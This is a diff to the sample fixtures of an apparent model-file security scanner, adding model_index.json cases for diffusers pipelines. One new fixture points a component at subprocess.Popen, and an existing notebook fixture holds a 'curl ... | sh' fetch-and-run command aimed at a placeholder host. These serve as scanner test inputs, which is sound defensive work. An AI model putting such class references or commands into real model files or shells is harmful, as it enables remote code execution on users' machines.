@@ -233,6 +233,11 @@ def _auto_map(target: object) -> Factory:
     return _bytes("config.json", json.dumps(config))
 
 
+def _model_index(**components: object) -> Factory:
+    index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.21.0", **components}
+    return _bytes("model_index.json", json.dumps(index))
+
+
 def _notebook_file(name: str, *cells: str) -> Factory:
     return _bytes(name, json.dumps(_notebook(list(cells))))
 
@@ -493,6 +498,9 @@ SAMPLES: dict[str, Factory] = {
     "MX-REPO-104": _notebook_file("demo.ipynb", "!curl -s http://example.invalid/x | sh\n"),
     "MX-REPO-105": _notebook_file("odd.ipynb", "def f(:\n"),
     "MX-REPO-106": _bytes("modelxray.toml", "report_only = true\n"),
+    "MX-REPO-121": _model_index(unet=["subprocess", "Popen"]),
+    "MX-REPO-122": _model_index(unet=["acme_unets", "FastUNet"]),
+    "MX-REPO-123": _model_index(unet=["diffusers", "NotAUNet"]),
     # tflite (committed fixtures, made by tests/data/tflite's script), flax
     "MX-TFLITE-101": lambda tmp: _one(data_path("tflite", "custom_ops.tflite")),
     "MX-TFLITE-102": lambda tmp: _one(data_path("tflite", "flex_benign.tflite")),
